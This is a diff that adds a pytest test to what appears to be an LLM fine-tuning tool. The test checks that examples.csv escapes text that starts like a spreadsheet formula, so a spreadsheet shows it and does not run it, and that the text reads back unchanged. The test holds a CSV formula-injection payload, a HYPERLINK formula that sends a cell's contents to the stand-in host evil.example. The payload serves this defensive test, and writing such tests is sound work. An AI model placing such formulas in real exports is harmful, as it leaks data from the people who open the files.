@@ -224,3 +224,22 @@ def test_a_binary_file_is_called_a_binary_file_and_named_as_uploaded(tmp_path):
     path.write_bytes(b"PK\x03\x04\x00\x00binary zip bytes")
     with pytest.raises(LlmftError, match=r"^my data.csv is a binary file, not CSV text$"):
         load_examples(SENTIMENT, str(path), name="my data.csv")
+
+
+def test_examples_csv_keeps_a_strangers_formula_as_text_and_reads_it_back_unchanged(tmp_path):
+    """A text that starts like a spreadsheet formula (`=HYPERLINK(...)`, `+`, `-`, `@`) is written to examples.csv
+    with a leading quote, so a spreadsheet shows it rather than runs it; scores, negative ones too, stay numbers;
+    loading the folder gives the texts back as they were typed."""
+    result = generated([0.5, 0.2], [0.25, 0.4])
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    result.rows[0].update(input=attack, tuned_output="@SUM(1+1)", base_output="- a dash")
+    result.rows[1].update(input="plain text", tuned_output="'=kept as typed", base_output="ok")
+    result.write(tmp_path)
+    raw = (tmp_path / "examples.csv").read_text()
+    assert "'=HYPERLINK(" in raw and "'@SUM" in raw and "'- a dash" in raw
+    assert "\n=" not in raw and ",=" not in raw and ",@" not in raw
+    loaded = EvalResult.load(tmp_path)
+    assert loaded.rows[0]["input"] == attack and loaded.rows[0]["tuned_output"] == "@SUM(1+1)"
+    assert loaded.rows[0]["base_output"] == "- a dash" and loaded.rows[1]["input"] == "plain text"
+    assert loaded.rows[1]["tuned_output"] == "'=kept as typed"
+    assert [r["base_overall"] for r in loaded.rows] == [0.5, 0.2]
